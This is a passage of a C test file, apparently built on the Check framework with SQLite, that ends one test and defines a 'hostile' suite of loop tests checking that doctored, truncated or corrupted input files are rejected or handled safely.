  ck_assert_msg(strncmp(answer, "leadx_track: ", 13) == 0, "%s", answer);
  ck_assert_str_eq(ask("SELECT count(*) FROM sqlite_schema WHERE name LIKE 'leadx_fresh%'"), "0");
  ck_assert_int_eq(sqlite3_close(db), SQLITE_OK);
}
END_TEST

Suite *test_hostile_suite(void) {
  Suite *suite = suite_create("hostile");
  TCase *files = tcase_create("files");
  tcase_add_checked_fixture(files, set_up, tear_down);
  tcase_set_timeout(files, 60);
  tcase_add_loop_test(files, a_doctored_file_gains_nothing, 0, COUNT(hostile_files));
  tcase_add_loop_test(files, a_spoiled_page_is_an_error_or_nothing, 0, 40);
  tcase_add_loop_test(files, a_file_that_is_cut_or_none_is_an_error_or_nothing, 0, COUNT(stumps));
  tcase_add_loop_test(files, a_capture_that_was_silenced_or_doctored_is_mended_and_misses_nothing,
                      0, 3);
  tcase_add_loop_test(files, a_file_that_was_prepared_for_the_first_track_is_refused, 0, 5);
  suite_add_tcase(suite, files);
  return suite;
}
